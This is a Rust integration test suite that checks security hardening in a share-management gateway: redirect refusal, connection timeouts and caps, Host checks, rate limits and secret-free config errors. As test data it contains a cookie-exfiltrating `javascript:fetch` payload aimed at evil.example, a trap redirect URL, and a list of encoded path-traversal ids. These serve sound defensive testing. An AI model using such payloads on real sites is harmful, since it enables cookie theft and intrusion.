//! Hardening (issue 20), over HTTP against the real binary: redirects are not followed, slow
//! and idle connections are cut, the connection and in-flight caps answer 503, only http(s)
//! URLs are served, writes need a JSON content type, a key-less server answers loopback host
//! names only, hostile ids never reach another vendor route, config errors hold no value, and
//! per-key rate limits answer 429. `docs/security.md` lists each protection with its test.

mod common;

use common::*;
use serde_json::{json, Value};
use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::Duration;
use unishare_testkit::faults::Fault;

/// Simulators with `shares` each and a ready key-less gateway over them, with `extra` config.
async fn keyless(shares: usize, extra: &str) -> (Vendors, Gateway) {
    let v = vendors(shares).await;
    let g = Gateway::start(&config(&v, false, extra));
    g.ready().await;
    (v, g)
}

/// The body of a GET, as text.
async fn text(url: &str) -> String {
    reqwest::get(url).await.unwrap().text().await.unwrap()
}

/// A listener that must see no connection: the target of the redirects.
struct Trap(TcpListener);

impl Trap {
    fn new() -> Trap {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        Trap(l)
    }

    fn addr(&self) -> String {
        self.0.local_addr().unwrap().to_string()
    }

    /// Whether anything connected so far (the backlog holds a connection until accepted).
    fn was_contacted(&self) -> bool {
        match self.0.accept() {
            Ok(_) => true,
            Err(e) if e.kind() == ErrorKind::WouldBlock => false,
            Err(e) => panic!("trap accept: {e}"),
        }
    }
}

/// The `host:port` of a gateway base URL.
fn authority(g: &Gateway) -> String {
    g.base.trim_start_matches("http://").to_string()
}

/// One raw HTTP/1.1 request; returns the status code and the whole answer.
fn raw(g: &Gateway, request: &str) -> (u16, String) {
    let mut s = TcpStream::connect(authority(g)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    let status = out
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, out)
}

/// Reads until the server closes the connection; `true` when it did within `within` (a
/// generous bound many times the configured timeout), `false` when it was still open.
fn closed_by_server(s: &mut TcpStream, within: Duration) -> bool {
    s.set_read_timeout(Some(within)).unwrap();
    let mut buf = [0u8; 1024];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return false
            }
            Err(_) => return true,
        }
    }
}

fn expiry() -> String {
    (chrono::Utc::now() + chrono::Duration::days(3))
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
}

/// Item 1: a vendor's 3xx is a 502 naming the status and the Location host; the redirect target
/// sees nothing (no POST body with the access code, no session or trace header).
#[tokio::test]
async fn a_vendor_redirect_is_a_502_and_is_never_followed() {
    let (v, g) = keyless(10, "").await;
    let trap = Trap::new();
    let location = format!("http://{}/steal?code=x", trap.addr());
    for (route, status) in [("create", 307), ("cancel", 308)] {
        v.koodrive.faults().inject(
            route,
            Fault::json(status, json!({})).with_header("location", location.clone()),
            None,
        );
    }
    v.cloudreve.faults().inject(
        "create",
        Fault::json(302, json!({})).with_header("location", location.clone()),
        None,
    );
    let c = reqwest::Client::new();
    let (file, container) = v.koodrive.files()[0].clone();
    let kd = json!({"source": {"file_ids": [file], "container_id": container},
                    "expires_at": expiry(), "password": "Ab3dEf9h"});
    let cr = json!({"source": {"uri": v.cloudreve.source_uris()[0]}, "password": "s3cret12"});
    let cn_id = format!("cn:{}", v.koodrive.share_ids()[0]);
    for (what, req, code) in [
        (
            "koodrive create",
            c.post(g.url("/v1/accounts/cn/shares")).json(&kd),
            "307",
        ),
        (
            "cloudreve create",
            c.post(g.url("/v1/accounts/hq/shares")).json(&cr),
            "302",
        ),
        (
            "koodrive revoke",
            c.delete(g.url(&format!("/v1/shares/{cn_id}"))),
            "308",
        ),
    ] {
        let (status, problem) = send(req, None).await;
        assert_eq!(status, 502, "{what}: {problem}");
        assert_eq!(problem["kind"], "upstream_protocol", "{what}");
        let detail = problem["detail"].as_str().unwrap();
        assert!(detail.contains(code), "{what}: {detail}");
        assert!(detail.contains(&trap.addr()), "{what}: {detail}");
        assert!(
            !detail.contains("steal") && !detail.contains("code=x"),
            "{detail}"
        );
    }
    assert!(!trap.was_contacted(), "a redirect was followed");
    assert_eq!(
        v.koodrive.counters().get("create"),
        1,
        "a redirect is not retried"
    );
}

/// Item 2: half a request head is cut off after `header_read_timeout`; a silent and a
/// kept-alive idle connection after `idle_timeout`; a request that keeps coming is served.
#[tokio::test]
async fn slow_heads_and_idle_connections_are_cut_off() {
    let (_v, g) = keyless(
        5,
        "\n[limits]\nheader_read_timeout = \"1s\"\nidle_timeout = \"1s\"\n",
    )
    .await;
    let bound = Duration::from_secs(20);

    let mut half = TcpStream::connect(authority(&g)).unwrap();
    half.write_all(b"GET /v1/shares HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        .unwrap();
    assert!(closed_by_server(&mut half, bound), "half a head kept open");

    let mut silent = TcpStream::connect(authority(&g)).unwrap();
    assert!(
        closed_by_server(&mut silent, bound),
        "silent connection kept open"
    );

    let mut kept = TcpStream::connect(authority(&g)).unwrap();
    kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .unwrap();
    let mut buf = [0u8; 12];
    kept.read_exact(&mut buf).unwrap();
    assert_eq!(&buf, b"HTTP/1.1 200");
    assert!(
        closed_by_server(&mut kept, bound),
        "idle keep-alive kept open"
    );

    let metrics = text(&g.url("/metrics")).await;
    let line = metrics
        .lines()
        .find(|l| l.starts_with("unishare_http_header_timeouts_total"))
        .unwrap_or_default();
    assert!(line.ends_with(" 1"), "{line:?}");
}

/// Sends `request` on new connections until one is served rather than refused at the
/// connection cap (a refusal carries no request id); returns the answer and the refusals seen.
async fn served(g: &Gateway, request: &str) -> (u16, String, u32) {
    for refusals in 0..1000 {
        let (status, answer) = raw(g, request);
        if !(status == 503 && answer.contains("\"request_id\":\"-\"")) {
            return (status, answer, refusals);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("never served");
}

/// Item 2: one connection over `max_connections` is answered 503 and closed, and counted.
#[tokio::test]
async fn one_connection_over_the_cap_is_answered_503() {
    let (_v, g) = keyless(3, "\n[limits]\nmax_connections = 3\n").await;
    // Wait for the readiness connection to be gone, then fill the server with three.
    let health = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
    let (_, _, mut refused) = served(&g, health).await;
    let mut held = Vec::new();
    while held.len() < 3 {
        let mut s = TcpStream::connect(authority(&g)).unwrap();
        s.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            .unwrap();
        let mut buf = [0u8; 12];
        s.read_exact(&mut buf).unwrap();
        match &buf {
            b"HTTP/1.1 200" => held.push(s),
            // The server has not yet seen an earlier connection close.
            b"HTTP/1.1 503" => {
                refused += 1;
                assert!(refused < 1000);
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            other => panic!("{}", String::from_utf8_lossy(other)),
        }
    }
    let (status, answer) = raw(&g, health);
    assert_eq!(status, 503, "{answer}");
    assert!(answer.contains("retry-after: 1"), "{answer}");
    assert!(answer.contains("\"kind\":\"overloaded\""), "{answer}");
    refused += 1;
    drop(held);
    let (status, metrics, more) = served(
        &g,
        "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert_eq!(status, 200);
    let series = format!("unishare_http_connections_refused_total {}", refused + more);
    assert!(metrics.contains(&series), "{series} missing");
}

/// Item 2: one request over `max_in_flight` is a 503 `overloaded` problem with `Retry-After`
/// and a request id; health probes still pass.
#[tokio::test]
async fn one_request_over_the_in_flight_cap_is_answered_503() {
    let (v, g) = keyless(3, "\n[limits]\nmax_in_flight = 1\n").await;
    // A slow vendor call holds the only in-flight slot.
    let id = v.cloudreve.share_ids()[0].clone();
    v.cloudreve
        .faults()
        .inject("get", Fault::Latency(Duration::from_secs(3)), Some(1));
    let slow_url = g.url(&format!("/v1/shares/hq:{id}?refresh=true"));
    let slow = tokio::spawn(async move { reqwest::get(slow_url).await.map(|r| r.status()) });
    for _ in 0..600 {
        if v.cloudreve.counters().get("get") > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert_eq!(
        v.cloudreve.counters().get("get"),
        1,
        "the slow call never started"
    );
    let resp = reqwest::get(g.url("/v1/accounts")).await.unwrap();
    assert_eq!(resp.status(), 503);
    assert_eq!(resp.headers()["retry-after"], "1");
    let problem: Value = resp.json().await.unwrap();
    assert_eq!(problem["kind"], "overloaded");
    assert_ne!(problem["request_id"], "-");
    let (status, _) = get(&g.url("/healthz"), None).await;
    assert_eq!(status, 200, "a health probe is not shed");
    assert_eq!(slow.await.unwrap().unwrap(), 200);
    let metrics = text(&g.url("/metrics")).await;
    assert!(metrics.contains("unishare_http_requests_shed_total 1"));
}

/// Item 3: a vendor record with a `javascript:` URL is served with `url: null` in JSON, an
/// empty cell in CSV, and counted as damaged.
#[tokio::test]
async fn a_javascript_url_is_served_as_null_and_counted() {
    let v = vendors(10).await;
    let native = v.koodrive.share_ids()[0].clone();
    assert!(v.koodrive.set_link_url(
        &native,
        "javascript:fetch('//evil.example?'+document.cookie)"
    ));
    let g = Gateway::start(&config(&v, false, ""));
    g.ready().await;
    let id = format!("cn:{native}");
    let (status, one) = get(&g.url(&format!("/v1/shares/{id}")), None).await;
    assert_eq!(status, 200, "{one}");
    assert_eq!(one["url"], Value::Null);
    let (_, fresh) = get(&g.url(&format!("/v1/shares/{id}?refresh=true")), None).await;
    assert_eq!(fresh["url"], Value::Null, "{fresh}");
    let (_, list) = get(&g.url("/v1/shares?account=cn&limit=100"), None).await;
    let shares = list["shares"].as_array().unwrap();
    assert_eq!(shares.len(), 10, "the record is kept");
    for s in shares {
        if s["id"] == id.as_str() {
            assert_eq!(s["url"], Value::Null);
        } else {
            assert!(s["url"].as_str().unwrap().starts_with("https://"), "{s}");
        }
    }
    for path in [
        "/v1/export?format=csv",
        "/v1/export?format=ndjson",
        "/v1/stats",
        "/v1/shares?limit=1000",
    ] {
        let body = text(&g.url(path)).await;
        assert!(
            !body.to_lowercase().contains("javascript"),
            "{path} serves it"
        );
    }
    let csv = text(&g.url("/v1/export?format=csv&account=cn")).await;
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let url_col = rows
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "url")
        .unwrap();
    let row = rows
        .records()
        .map(Result::unwrap)
        .find(|r| r.get(0) == Some(id.as_str()))
        .unwrap();
    assert_eq!(row.get(url_col), Some(""));
    let metrics = text(&g.url("/metrics")).await;
    assert!(
        metrics.contains("unishare_damaged_records_total{account=\"cn\"} 1"),
        "{metrics}"
    );
    assert!(metrics.contains("unishare_damaged_records_total{account=\"hq\"} 0"));
}

/// Item 4: a cross-site `text/plain` (or form) write is a 415 in every mode, and nothing is
/// revoked.
#[tokio::test]
async fn a_cross_site_text_plain_write_is_415() {
    let v = vendors(5).await;
    for keys in [false, true] {
        let g = Gateway::start(&config(&v, keys, ""));
        g.ready().await;
        let key = keys.then_some(ADMIN_KEY);
        let ids = all_ids(&v);
        let body = json!({"ids": ids}).to_string();
        for ct in [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
        ] {
            let mut req = reqwest::Client::new()
                .post(g.url("/v1/shares/revoke"))
                .header("content-type", ct)
                .header("origin", "https://evil.example")
                .body(body.clone());
            if let Some(k) = key {
                req = req.bearer_auth(k);
            }
            let resp = req.send().await.unwrap();
            assert_eq!(resp.status(), 415, "{ct} keys={keys}");
            assert!(resp.headers().get("access-control-allow-origin").is_none());
            let problem: Value = resp.json().await.unwrap();
            assert_eq!(problem["kind"], "unsupported_media_type");
        }
        assert_eq!(all_ids(&v), ids, "a share was revoked");
        assert_eq!(v.cloudreve.counters().get("batch_delete"), 0);
        assert_eq!(v.koodrive.counters().get("cancel"), 0);
    }
}

/// Item 4: a key-less server answers loopback host names only (DNS rebinding); with keys the
/// Host is not checked.
#[tokio::test]
async fn a_keyless_server_refuses_foreign_host_names() {
    let (v, g) = keyless(3, "").await;
    let port = authority(&g).rsplit(':').next().unwrap().to_string();
    for host in [
        format!("evil.example:{port}"),
        "evil.example".to_string(),
        format!("127.0.0.1.nip.io:{port}"),
        format!("localhost.evil.example:{port}"),
        format!("0.0.0.0:{port}"),
    ] {
        let (status, answer) = raw(
            &g,
            &format!("GET /v1/shares HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        );
        assert_eq!(status, 421, "{host}: {answer}");
        assert!(answer.contains("misdirected_request"), "{answer}");
        assert!(!answer.contains("\"shares\""), "{answer}");
    }
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("LocalHost:{port}"),
        format!("[::1]:{port}"),
        "127.0.0.1".to_string(),
    ] {
        let (status, answer) = raw(
            &g,
            &format!("GET /v1/shares HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        );
        assert_eq!(status, 200, "{host}: {answer}");
    }
    let keyed = Gateway::start(&config(&v, true, ""));
    keyed.ready().await;
    let (status, answer) = raw(
        &keyed,
        &format!(
            "GET /v1/accounts HTTP/1.1\r\nHost: gateway.example\r\nAuthorization: Bearer {READER_KEY}\r\nConnection: close\r\n\r\n"
        ),
    );
    assert_eq!(status, 200, "{answer}");
}

/// Item 5: `.`/`..`/encoded separators and ids of the wrong form are a 4xx on every id route
/// and in a batch revoke, and the simulators see no request at all.
#[tokio::test]
async fn hostile_ids_are_4xx_and_reach_no_vendor_route() {
    let (v, g) = keyless(5, "\n[cache]\nttl = \"10m\"\nmax_stale = \"1h\"\n").await;
    let before = (
        v.cloudreve.counters().snapshot(),
        v.koodrive.counters().snapshot(),
    );
    let natives = [
        "..",
        ".",
        "%2e%2e",
        "%2E%2E",
        "%2e",
        "..%2F",
        "%2F",
        "%2F..",
        "a%2F..%2F..",
        "%5C",
        "..%5C..",
        "%2e%2e%2fshare",
        "%3F",
        "%23",
        "a%3Fb",
        "%00",
        "..%00",
        "%2e%2e%3Bx",
        "..;",
        "g2%2FguA",
        "%252e%252e",
        "1%2E2",
        "-1",
    ];
    // Names of other KooDrive routes (`/share/cancel`, ...) are not digits.
    let koodrive_only = ["cancel", "received", "exit", "download"];
    let c = reqwest::Client::new();
    let mut batch = Vec::new();
    for account in ["hq", "cn"] {
        let extra: &[&str] = if account == "cn" { &koodrive_only } else { &[] };
        for native in natives.iter().chain(extra) {
            let path = format!("/v1/shares/{account}:{native}");
            for (what, req) in [
                ("GET", c.get(g.url(&path))),
                ("GET refresh", c.get(g.url(&format!("{path}?refresh=true")))),
                (
                    "PATCH",
                    c.patch(g.url(&path)).json(&json!({"expires_at": expiry()})),
                ),
                ("DELETE", c.delete(g.url(&path))),
            ] {
                let (status, problem) = send(req, None).await;
                assert!(
                    (400..500).contains(&status),
                    "{what} {path}: {status} {problem}"
                );
            }
            batch.push(format!("{account}:{}", percent_decode(native)));
        }
    }
    let (status, results) = send(
        c.post(g.url("/v1/shares/revoke"))
            .json(&json!({ "ids": batch })),
        None,
    )
    .await;
    assert_eq!(status, 200, "{results}");
    for r in results["results"].as_array().expect("results") {
        assert_eq!(r["status"], "failed", "{r}");
    }
    let after = (
        v.cloudreve.counters().snapshot(),
        v.koodrive.counters().snapshot(),
    );
    assert_eq!(before, after, "a hostile id reached a vendor");
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let hex = s
            .get(i + 1..i + 3)
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match hex {
            Some(v) if b[i] == b'%' => {
                out.push(v);
                i += 3;
            }
            _ => {
                out.push(b[i]);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Item 6: a config with an inline secret and a syntax error on its line: the message names
/// the file, the line and the key, never the secret (`check-config` and `serve`).
#[test]
fn a_config_syntax_error_never_echoes_the_secret() {
    let secret = "Sup3r-Inline-Secret-Value";
    let path =
        std::env::temp_dir().join(format!("unishare-e2e-secret-{}.toml", std::process::id()));
    std::fs::write(
        &path,
        format!(
            "[server]\nlisten = \"127.0.0.1:0\"\n\n[[accounts]]\nname = \"hq\"\nprovider = \"cloudreve\"\nbase_url = \"http://127.0.0.1:9\"\nauth = {{ method = \"password\", email = \"a@b.c\", password = \"{secret} }}\n"
        ),
    )
    .unwrap();
    for cmd in ["check-config", "serve"] {
        let run = std::process::Command::new(env!("CARGO_BIN_EXE_unishare"))
            .args([cmd, "--config"])
            .arg(&path)
            .env("RUST_LOG", "debug")
            .output()
            .unwrap();
        assert!(!run.status.success(), "{cmd}");
        let out = format!(
            "{}{}",
            String::from_utf8_lossy(&run.stdout),
            String::from_utf8_lossy(&run.stderr)
        );
        assert!(!out.contains("Sup3r"), "{cmd} echoed the secret: {out}");
        assert!(out.contains(&path.display().to_string()), "{cmd}: {out}");
        assert!(out.contains("line 8"), "{cmd}: {out}");
        assert!(out.contains("accounts[0].auth"), "{cmd}: {out}");
    }
    let _ = std::fs::remove_file(&path);
}

/// Item 7: a key over its `rate_limit` gets 429 + `Retry-After` (other keys are not
/// affected); the `Bearer` scheme is case-insensitive.
#[tokio::test]
async fn per_key_rate_limits_and_case_insensitive_bearer() {
    let v = vendors(3).await;
    let cfg = config(&v, true, "").replacen(
        "name = \"reader\"",
        "name = \"reader\"\nrate_limit = \"3/m\"",
        1,
    );
    let g = Gateway::start(&cfg);
    g.ready().await;
    for _ in 0..3 {
        let (status, body) = get(&g.url("/v1/accounts"), Some(READER_KEY)).await;
        assert_eq!(status, 200, "{body}");
    }
    let resp = reqwest::Client::new()
        .get(g.url("/v1/accounts"))
        .bearer_auth(READER_KEY)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 429);
    let wait: u64 = resp.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    let (status, _) = get(&g.url("/v1/accounts"), Some(ADMIN_KEY)).await;
    assert_eq!(status, 200, "another key is not limited");
    for scheme in ["bearer", "BEARER", "BeArEr"] {
        let (status, body) = send(
            reqwest::Client::new()
                .get(g.url("/v1/accounts"))
                .header("authorization", format!("{scheme} {ADMIN_KEY}")),
            None,
        )
        .await;
        assert_eq!(status, 200, "{scheme}: {body}");
    }
}
